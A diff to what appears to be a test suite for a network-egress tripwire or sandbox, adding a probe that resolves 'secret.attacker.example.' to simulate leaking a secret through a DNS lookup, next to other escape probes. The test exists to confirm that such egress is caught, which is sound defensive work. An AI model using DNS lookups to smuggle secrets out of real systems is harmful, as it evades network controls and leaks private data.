@@ -46,6 +46,12 @@ def name(out: Outside) -> None:
     socket.create_connection(("monolith-pg-rw", out.port))
 
 
+@sockets.tries(Layer.TRIPWIRE, resolver=True)
+def look_up(_out: Outside) -> None:
+    """A look-up that carries a secret in the name."""
+    socket.getaddrinfo("secret.attacker.example.", 443)
+
+
 @sockets.tries(Layer.TRIPWIRE)
 def number_that_is_a_name(out: Outside) -> None:
     """A string that says another address each time it is asked."""
